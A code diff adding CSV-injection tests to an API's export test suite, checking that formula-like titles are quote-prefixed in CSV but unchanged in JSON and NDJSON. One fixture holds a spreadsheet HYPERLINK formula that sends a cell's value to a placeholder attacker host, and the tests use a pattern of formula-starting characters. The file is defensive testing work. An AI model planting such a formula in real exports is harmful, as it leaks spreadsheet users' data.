@@ -5,12 +5,15 @@
 import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { createList } from '../../shared/admin/lists';
+import { csvField } from '../../shared/exports';
 import { ARTICLE_A, ARTICLE_C, geoRecords, NOW, TAYLOR } from '../fixtures/geo';
 import { seed } from '../helpers/seed';
 import { createWorld, show, type Tenant, type World } from '../helpers/world';
 
 /** A title that needs every RFC 4180 rule: a comma, quotes, a line break, and non-ASCII text. */
 const TRICKY = 'Swift, "Eras" tour\nadds dates in Zürich';
+/** A crawled title a spreadsheet would run as a formula (OWASP "CSV injection"; issue 46 finding 2). */
+const FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"Read more")';
 
 let world: World;
 let tenant: Tenant;
@@ -21,7 +24,13 @@ beforeAll(async () => {
   world.setNow(NOW);
   await seed(
     world,
-    geoRecords().map((r: any) => (r.type === 'article' && r.id === ARTICLE_A ? { ...r, title: TRICKY } : r)),
+    geoRecords().map((r: any) =>
+      r.type === 'article' && r.id === ARTICLE_A
+        ? { ...r, title: TRICKY }
+        : r.type === 'article' && r.id === ARTICLE_C
+          ? { ...r, title: FORMULA }
+          : r,
+    ),
   );
   tenant = await world.tenant({ plan: 'scale', countries: ['US', 'GB', 'DE', 'FR'] });
   listId = (
@@ -35,9 +44,18 @@ beforeAll(async () => {
 
 const get = (path: string, headers: Record<string, string> = {}) => world.call(path, { key: tenant.key, headers });
 
-/** What a CSV cell holds for a JSON value: empty for null, JSON text for arrays and objects. */
+/**
+ * What a CSV cell holds for a JSON value: empty for null, JSON text for arrays and objects, a text
+ * that begins like a formula behind a `'`.
+ */
 const cell = (value: unknown) =>
-  value === null || value === undefined ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value);
+  value === null || value === undefined
+    ? ''
+    : typeof value === 'object'
+      ? JSON.stringify(value)
+      : typeof value === 'string' && /^[=+\-@\t\r]/.test(value)
+        ? `'${value}`
+        : String(value);
 const at = (item: unknown, column: string) => column.split('.').reduce<any>((v, k) => (v == null ? undefined : v[k]), item);
 
 /** Parses a CSV answer and checks it row by row, column by column, against the JSON page's items. */
@@ -109,6 +127,40 @@ describe('CSV', () => {
     expect(csv.headers.get('ETag')).not.toBe(json.headers.get('ETag'));
     const again = await get('/v1/entities?limit=5&format=csv', { 'If-None-Match': csv.headers.get('ETag')! });
     expect(again.status).toBe(304);
+  });
+});
+
+describe('CSV injection (OWASP)', () => {
+  it('a crawled title written as a formula reaches every CSV export behind a quote mark, and JSON and NDJSON unchanged', async () => {
+    for (const path of ['/v2/feed?period=30d&limit=20', '/v1/articles?limit=20', '/v2/live?since_minutes=1440']) {
+      const member = path.startsWith('/v1/articles') ? 'articles' : 'items';
+      const json = await get(path);
+      expect(json.status, show(json)).toBe(200);
+      expect(
+        json.body[member].map((i: any) => i.title),
+        `${path}: JSON keeps the title as crawled`,
+      ).toContain(FORMULA);
+      const csv = await get(`${path}&format=csv`);
+      const rows = expectSameRows(csv.text, json.body[member]);
+      const titles = rows.map((r) => r.title);
+      expect(titles, path).toContain(`'${FORMULA}`);
+      expect(
+        titles.some((t) => /^[=+\-@\t\r]/.test(t)),
+        `${path}: no cell a spreadsheet would evaluate`,
+      ).toBe(false);
+      const nd = await get(`${path}&format=ndjson`);
+      expect(nd.text, `${path}: NDJSON unchanged`).toContain(JSON.stringify(FORMULA));
+    }
+  });
+
+  it('every character a spreadsheet starts a formula with is neutralised; numbers stay numbers', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+      const field = csvField(`${start}1+1`);
+      expect(field.replace(/^"/, '').startsWith(`'${start}`), JSON.stringify(field)).toBe(true);
+    }
+    expect(csvField('plain title')).toBe('plain title');
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField(['=1'])).toBe('"[""=1""]"');
   });
 });
 
